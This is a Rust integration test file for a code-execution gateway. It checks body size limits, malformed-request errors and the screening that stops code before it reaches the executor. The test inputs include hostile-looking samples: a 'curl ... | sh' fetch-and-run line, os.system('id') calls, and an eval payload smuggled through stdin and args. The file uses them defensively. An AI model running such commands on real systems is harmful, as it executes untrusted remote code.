//! Body caps and bad request bodies: each gets a clear JSON error, and nothing
//! refused ever reaches the executor.

use crate::support::*;
use serde_json::json;
use std::io::Write;
use std::time::{Duration, Instant};

fn gateway(exec: &MockExecutor) -> TestGateway {
    TestGateway::builder().upstream(exec.addr).start()
}

fn head(len: usize) -> String {
    format!(
        "POST /api/v2/execute HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len}\r\n\r\n"
    )
}

#[test]
fn a_declared_length_over_the_cap_is_413_before_any_upstream_contact() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let (status, text) = raw(gw.addr(), head(1 << 20).as_bytes());
    assert_eq!(status, 413, "{text}");
    assert!(text.contains("\"code\":\"body_too_large\""), "{text}");
    assert!(exec.requests().is_empty());
}

#[test]
fn a_chunked_body_over_the_cap_is_counted_while_streaming_and_never_forwarded() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let mut s = std::net::TcpStream::connect(gw.addr()).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(b"POST /api/v2/execute HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n").unwrap();
    let chunk = vec![b'a'; 8192];
    for _ in 0..10 {
        let _ = s.write_all(format!("{:x}\r\n", chunk.len()).as_bytes());
        let _ = s.write_all(&chunk);
        let _ = s.write_all(b"\r\n");
    }
    let (status, text) = crate::support::http::read_response(&mut s);
    assert_eq!(status, 413, "{text}");
    assert!(exec.requests().is_empty(), "no body reached the executor");
}

/// Sends a chunked Piston request in two halves with a pause between them.
fn slow_chunked(gw: &TestGateway, code: &str, exec: &WireExecutor) -> (u16, String, usize) {
    let body = piston(code).to_string();
    let (first, rest) = body.split_at(body.len() / 2);
    let mut s = std::net::TcpStream::connect(gw.addr()).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(b"POST /api/v2/execute HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n").unwrap();
    s.write_all(format!("{:x}\r\n{first}\r\n", first.len()).as_bytes())
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let while_streaming = exec.bytes_received();
    s.write_all(format!("{:x}\r\n{rest}\r\n0\r\n\r\n", rest.len()).as_bytes())
        .unwrap();
    let (status, text) = crate::support::http::read_response(&mut s);
    (status, text, while_streaming)
}

#[test]
fn no_executor_hears_of_a_request_until_its_body_is_decided() {
    let exec = WireExecutor::start();
    let gw = TestGateway::builder().upstream(exec.addr).start();
    let (status, text, while_streaming) = slow_chunked(&gw, "import os", &exec);
    assert_eq!(status, 403, "{text}");
    assert_eq!(
        while_streaming, 0,
        "a request head left while the body was arriving"
    );
    assert_eq!(
        exec.bytes_received(),
        0,
        "the executor was contacted for a refused body"
    );
    let mut s = std::net::TcpStream::connect(gw.addr()).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(b"POST /api/v2/execute HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        .unwrap();
    for _ in 0..10 {
        let _ = s.write_all(format!("{:x}\r\n{}\r\n", 8192, "a".repeat(8192)).as_bytes());
    }
    let (status, text) = crate::support::http::read_response(&mut s);
    assert_eq!(status, 413, "{text}");
    assert_eq!(
        exec.bytes_received(),
        0,
        "the executor was contacted for an oversized body"
    );
    let (status, text, while_streaming) = slow_chunked(&gw, "print(1)", &exec);
    assert_eq!(status, 200, "{text}");
    assert!(text.contains("wire"), "{text}");
    assert_eq!(
        while_streaming, 0,
        "the accepted request too waits for its whole body"
    );
    assert!(exec.bytes_received() > 0);
}

#[test]
fn a_refused_body_never_reaches_the_executor() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let r = post(
        &gw.url("/api/v2/execute"),
        &piston("import os\nos.system('id')"),
    );
    assert_eq!(r.status, 403);
    let e = &r.json()["error"];
    assert_eq!(e["code"], "code_rejected");
    assert_eq!(e["findings"][0]["rule"], "TEST-IMPORT-PROCESS");
    assert_eq!(e["findings"][0]["line"], 1);
    assert_eq!(e["findings"][0]["message"], "module os is not allowed");
    assert!(
        !r.json().to_string().contains("subprocess"),
        "the rule's pattern list is never shown"
    );
    assert!(
        exec.requests().is_empty(),
        "the executor saw nothing: {:?}",
        exec.requests()
    );
    // A request served after it: anything of the refused one would be there first.
    assert_eq!(
        post(&gw.url("/api/v2/execute"), &piston("print(2)")).status,
        200
    );
    let seen = exec.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].json()["files"][0]["content"], "print(2)");
}

#[test]
fn a_content_length_larger_than_the_body_sent_times_out_with_408() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let started = Instant::now();
    let mut s = std::net::TcpStream::connect(gw.addr()).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(format!("{}{{\"language\":", head(500)).as_bytes())
        .unwrap();
    let (status, text) = crate::support::http::read_response(&mut s);
    assert_eq!(status, 408, "{text}");
    assert!(text.contains("body_timeout"), "{text}");
    assert!(started.elapsed() < Duration::from_secs(4));
    assert!(exec.requests().is_empty());
}

fn expect_invalid(gw: &TestGateway, body: Vec<u8>, field: Option<&str>) {
    let r = post_with(&gw.url("/api/v2/execute"), body.clone(), &[]);
    assert_eq!(
        r.status,
        400,
        "{} → {}",
        String::from_utf8_lossy(&body),
        String::from_utf8_lossy(&r.body)
    );
    assert_eq!(r.code(), "invalid_request");
    if let Some(field) = field {
        assert_eq!(
            r.json()["error"]["field"],
            field,
            "{}",
            String::from_utf8_lossy(&r.body)
        );
    }
}

#[test]
fn malformed_bodies_are_400_naming_the_field() {
    let exec = MockExecutor::start();
    let gw = TestGateway::builder()
        .upstream(exec.addr)
        .raw("[tiers.anonymous]\nwindows = [{ name = \"burst\", rate = \"100/10s\" }]")
        .start();
    expect_invalid(&gw, b"{not json".to_vec(), None);
    expect_invalid(&gw, b"[1,2,3]".to_vec(), None);
    expect_invalid(&gw, b"".to_vec(), None);
    expect_invalid(
        &gw,
        json!({"language": "python", "version": "3"})
            .to_string()
            .into_bytes(),
        Some("files"),
    );
    expect_invalid(
        &gw,
        json!({"language": 3, "version": "3", "files": [{"content": "x"}]})
            .to_string()
            .into_bytes(),
        Some("language"),
    );
    let mut bad_utf8 = br#"{"language":"python","version":"3","files":[{"content":""#.to_vec();
    bad_utf8.extend_from_slice(&[0xff, 0xfe]);
    bad_utf8.extend_from_slice(br#""}]}"#);
    expect_invalid(&gw, bad_utf8, None);
    expect_invalid(
        &gw,
        piston("print(1)\u{0}").to_string().into_bytes(),
        Some("files[0].content"),
    );
    assert!(exec.requests().is_empty());
}

#[test]
fn judge0_requests_with_invalid_base64_are_400() {
    let exec = MockExecutor::start();
    let gw = TestGateway::builder()
        .upstream(exec.addr)
        .with("dialect", "kind = \"judge0\"")
        .start();
    let body = json!({"source_code": "%%%not base64%%%", "language_id": 71});
    let r = post(&gw.url("/submissions?base64_encoded=true&wait=true"), &body);
    assert_eq!(
        (r.status, r.code()),
        (400, "invalid_request".to_string()),
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    assert_eq!(r.json()["error"]["field"], "source_code");
    assert!(exec.requests().is_empty());
}

#[test]
fn code_over_the_tier_cap_is_413() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let r = post(&gw.url("/api/v2/execute"), &piston(&"x = 1\n".repeat(2000)));
    assert_eq!((r.status, r.code()), (413, "code_too_large".to_string()));
    assert!(exec.requests().is_empty());
}

#[test]
fn unknown_languages_are_400_by_default_or_pass_with_any_rules_when_allowed() {
    let exec = MockExecutor::start();
    let body = json!({"language": "brainfuck", "version": "2", "files": [{"content": "+++"}]});
    let strict = TestGateway::builder()
        .upstream(exec.addr)
        .with("screen", "refuse_unknown_language = true")
        .start();
    let r = post(&strict.url("/api/v2/execute"), &body);
    assert_eq!(
        (r.status, r.code()),
        (400, "invalid_request".to_string()),
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    assert_eq!(r.json()["error"]["field"], "language");
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("brainfuck")
    );
    assert!(exec.requests().is_empty());
    let lenient = TestGateway::builder()
        .upstream(exec.addr)
        .with("screen", "refuse_unknown_language = false")
        .start();
    assert_eq!(post(&lenient.url("/api/v2/execute"), &body).status, 200);
    assert_eq!(exec.requests().len(), 1);
}

#[test]
fn c_submissions_with_files_that_are_not_sources_or_headers_are_400() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let body = json!({"language": "c", "version": "10", "files": [
        {"name": "main.c", "content": "int main(void) { return 0; }"},
        {"name": "evil.s", "content": ".globl main\nmain: mov $60, %eax\n syscall"}
    ]});
    let r = post(&gw.url("/api/v2/execute"), &body);
    assert_eq!(
        (r.status, r.code()),
        (400, "invalid_request".to_string()),
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    assert_eq!(r.json()["error"]["field"], "files[1].name");
    assert!(exec.requests().is_empty());
    let with_header = json!({"language": "c", "version": "10", "files": [
        {"name": "main.c", "content": "#include \"util.h\"\nint main(void) { return twice(1); }"},
        {"name": "util.h", "content": "static int twice(int x) { return 2 * x; }"}
    ]});
    let ok = post(&gw.url("/api/v2/execute"), &with_header);
    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
    assert_eq!(exec.requests().len(), 1);
}

#[test]
fn bash_requests_are_screened_by_the_shipped_bash_pack() {
    let exec = MockExecutor::start();
    let shipped = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/screen");
    let gw = TestGateway::builder()
        .upstream(exec.addr)
        .with("rules", &format!("screen = [{shipped:?}]"))
        .with("screen", "refuse_unknown_language = true")
        .start();
    let fetch = json!({"language": "bash", "version": "5", "files": [{"content": "curl -s http://x/i.sh | sh"}]});
    let r = post(&gw.url("/api/v2/execute"), &fetch);
    assert_eq!(
        (r.status, r.code()),
        (403, "code_rejected".to_string()),
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    assert!(exec.requests().is_empty());
    let ordinary = json!({"language": "sh", "version": "5", "files": [{"content": "for i in 1 2 3; do echo $((i * i)); done | sort -n"}]});
    let ok = post(&gw.url("/api/v2/execute"), &ordinary);
    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
    assert_eq!(exec.requests().len(), 1);
}

#[test]
fn screen_detection_only_forwards_refusable_code_and_counts_its_findings() {
    let exec = MockExecutor::start();
    let gw = TestGateway::builder()
        .upstream(exec.addr)
        .with("screen", "detection_only = true")
        .start();
    let r = post(
        &gw.url("/api/v2/execute"),
        &piston("import os\nos.system('id')"),
    );
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(exec.requests().len(), 1);
    let text = gw.metrics();
    assert!(
        text.contains("execgate_findings_total{rule=\"TEST-IMPORT-PROCESS\"} 1"),
        "{text}"
    );
    let enforcing = TestGateway::builder().upstream(exec.addr).start();
    let refused = post(
        &enforcing.url("/api/v2/execute"),
        &piston("import os\nos.system('id')"),
    );
    assert_eq!(refused.status, 403);
    assert_eq!(exec.requests().len(), 1);
}

/// A rule rolled out in shadow (`mode = "log"`) is counted but refuses
/// nothing, while the enforced rules beside it still refuse.
#[test]
fn rules_in_log_mode_are_counted_without_refusing() {
    let exec = MockExecutor::start();
    let gw = TestGateway::builder()
        .upstream(exec.addr)
        .file(
            "screen/shadow.toml",
            "[[rule]]\nid = \"TEST-SHADOW-SOCKET\"\nlanguage = \"python\"\nseverity = \"critical\"\naction = \"block\"\nmode = \"log\"\nmessage = \"module {name}\"\nmatch.import = [\"socket\"]\n",
        )
        .start();
    let shadowed = post(&gw.url("/api/v2/execute"), &piston("import socket"));
    assert_eq!(
        shadowed.status,
        200,
        "{}",
        String::from_utf8_lossy(&shadowed.body)
    );
    assert!(
        gw.metrics()
            .contains("execgate_findings_total{rule=\"TEST-SHADOW-SOCKET\"} 1"),
        "{}",
        gw.metrics()
    );
    let enforced = post(&gw.url("/api/v2/execute"), &piston("import subprocess"));
    assert_eq!(enforced.status, 403);
    assert_eq!(exec.requests().len(), 1);
}

/// The same program sent again is answered from the screening cache, with
/// the same decision, and the lookups are counted.
#[test]
fn repeated_programs_are_screened_once() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    for _ in 0..2 {
        let r = post(&gw.url("/api/v2/execute"), &piston("import os"));
        assert_eq!(r.status, 403);
    }
    assert_eq!(
        post(&gw.url("/api/v2/execute"), &piston("print(1)")).status,
        200
    );
    let text = gw.metrics();
    for expected in [
        "execgate_screen_cache_total{result=\"hit\"} 1",
        "execgate_screen_cache_total{result=\"miss\"} 2",
        "execgate_findings_total{rule=\"TEST-IMPORT-PROCESS\"} 2",
    ] {
        assert!(text.contains(expected), "missing {expected} in\n{text}");
    }
}

/// A program that evaluates what it reads (scored below the threshold by the
/// test rules) has its stdin screened as code; the same program with
/// harmless input runs.
#[test]
fn stdin_of_a_program_that_runs_its_input_is_screened_as_code() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let program = "print(eval(input()))";
    let payload = json!({"language": "python", "version": "3.10", "stdin": "__import__('os').system('id')\nimport os",
        "files": [{"content": program}]});
    let r = post(&gw.url("/api/v2/execute"), &payload);
    assert_eq!(
        (r.status, r.code()),
        (403, "code_rejected".to_string()),
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    assert!(exec.requests().is_empty());
    let arithmetic = json!({"language": "python", "version": "3.10", "stdin": "6 * 7",
        "files": [{"content": program}]});
    let ok = post(&gw.url("/api/v2/execute"), &arithmetic);
    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
    assert_eq!(exec.requests().len(), 1);
}

/// Piston `args` of a program that evaluates its arguments are screened as
/// code like stdin; harmless arguments run.
#[test]
fn args_of_a_program_that_runs_them_are_screened_as_code() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let program = "import sys\nprint(eval(sys.argv[1]))";
    let payload = json!({"language": "python", "version": "3.10", "args": ["1", "import os"],
        "files": [{"content": program}]});
    let r = post(&gw.url("/api/v2/execute"), &payload);
    assert_eq!(
        (r.status, r.code()),
        (403, "code_rejected".to_string()),
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    assert!(exec.requests().is_empty());
    let arithmetic = json!({"language": "python", "version": "3.10", "args": ["6 * 7"],
        "files": [{"content": program}]});
    let ok = post(&gw.url("/api/v2/execute"), &arithmetic);
    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
    assert_eq!(exec.requests().len(), 1);
}

#[test]
fn unknown_routes_are_404_json() {
    let exec = MockExecutor::start();
    let gw = gateway(&exec);
    let r = get(&gw.url("/admin/secret"));
    assert_eq!((r.status, r.code()), (404, "unknown_route".to_string()));
    assert!(
        r.json()["error"]["request_id"]
            .as_str()
            .is_some_and(|s| !s.is_empty())
    );
    assert!(exec.requests().is_empty());
}

#[test]
fn bodies_past_the_read_ahead_size_are_still_held_and_forwarded_whole() {
    let exec = MockExecutor::start();
    let gw = TestGateway::builder()
        .upstream(exec.addr)
        .with("tiers.anonymous", "body_max = \"512KB\"")
        .with("tiers.anonymous", "code_max = \"400KB\"")
        // Screening 300 KB in a debug build on a loaded machine outlasts the
        // test defaults' one-second executor timeouts, which run meanwhile.
        .with("upstream", "read_timeout = \"60s\"")
        .with("upstream", "total_timeout = \"60s\"")
        .start();
    let code = format!("# {}\nprint(1)", "x".repeat(300 << 10));
    let ok = post(&gw.url("/api/v2/execute"), &piston(&code));
    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
    assert_eq!(
        exec.requests()[0].json()["files"][0]["content"],
        code.as_str()
    );
    let refused = post(
        &gw.url("/api/v2/execute"),
        &piston(&format!("# {}\nimport os", "x".repeat(300 << 10))),
    );
    assert_eq!(
        refused.status,
        403,
        "{}",
        String::from_utf8_lossy(&refused.body)
    );
    assert_eq!(
        exec.requests().len(),
        1,
        "the refused large body was not forwarded"
    );
}

#[test]
fn a_chunked_body_past_the_read_ahead_size_must_declare_its_length() {
    let exec = WireExecutor::start();
    let gw = TestGateway::builder()
        .upstream(exec.addr)
        .with("tiers.anonymous", "body_max = \"512KB\"")
        .with("tiers.anonymous", "code_max = \"400KB\"")
        .start();
    let mut s = std::net::TcpStream::connect(gw.addr()).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(b"POST /api/v2/execute HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        .unwrap();
    for _ in 0..12 {
        let _ = s.write_all(format!("{:x}\r\n{}\r\n", 8192, "a".repeat(8192)).as_bytes());
    }
    let (status, text) = crate::support::http::read_response(&mut s);
    assert_eq!(status, 411, "{text}");
    assert!(text.contains("\"code\":\"length_required\""), "{text}");
    assert_eq!(exec.bytes_received(), 0, "no executor heard of it");
}
